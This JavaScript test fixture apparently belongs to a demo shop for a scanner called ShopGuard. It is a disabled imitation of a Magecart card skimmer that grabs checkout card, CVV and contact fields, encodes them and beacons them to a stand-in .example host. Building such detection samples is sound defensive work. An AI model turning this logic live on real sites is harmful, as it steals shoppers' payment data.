/*
 * ==========================================================================================
 *  HARMLESS TEST SAMPLE - NOT A WORKING SKIMMER.
 *
 *  This file is part of ShopGuard's demo shop. It imitates the SHAPE of a Magecart-style
 *  card skimmer (reads card fields on submit, serialises and base64-encodes them, and beacons
 *  them to a look-alike domain) so that ShopGuard's file scanner has something to find.
 *
 *  It is defanged on purpose and cannot steal anything:
 *    - the whole body sits inside `if (false)` and never runs;
 *    - the "exfiltration" host is under .example, a name reserved by RFC 2606 that never resolves;
 *    - no page of the demo shop loads this file (see demo/README.md, the answer key).
 *
 *  Never copy this into a real site.
 * ==========================================================================================
 */
(function () {
  "use strict";
  if (false) {
    var _0xgate = "https://cdn-paymentz.example/collect";
    var _0xsent = false;

    function _0xgrab() {
      var data = {};
      var fields = document.querySelectorAll("input, select");
      for (var i = 0; i < fields.length; i++) {
        var f = fields[i];
        var key = (f.name || f.id || "").toLowerCase();
        if (/card|cc-?num|cvv|cvc|csc|exp|holder|billing|email|phone/.test(key)) {
          data[key] = f.value;
        }
      }
      var number = document.querySelector("input[name='card-number'], #cc_number, input[name*='cc_number']");
      var cvv = document.querySelector("input[name='cvv'], #cc_cid, input[name*='cvc']");
      if (number) { data.card_number = number.value; }
      if (cvv) { data.cvv = cvv.value; }
      data.host = location.hostname;
      data.ua = navigator.userAgent;
      return data;
    }

    function _0xsend(payload) {
      var encoded = btoa(unescape(encodeURIComponent(JSON.stringify(payload))));
      var img = new Image();
      img.src = _0xgate + "?d=" + encodeURIComponent(encoded) + "&r=" + Math.random();
      try {
        fetch(_0xgate, { method: "POST", mode: "no-cors", body: encoded });
      } catch (e) {}
    }

    document.addEventListener("submit", function (ev) {
      if (_0xsent) { return; }
      var form = ev.target;
      if (!form || !/checkout|payment|onestep/i.test(form.action + " " + location.pathname)) { return; }
      var serialised = jQuery ? jQuery(form).serialize() : "";
      var payload = _0xgrab();
      payload.form = serialised;
      _0xsend(payload);
      _0xsent = true;
    }, true);
  }
})();
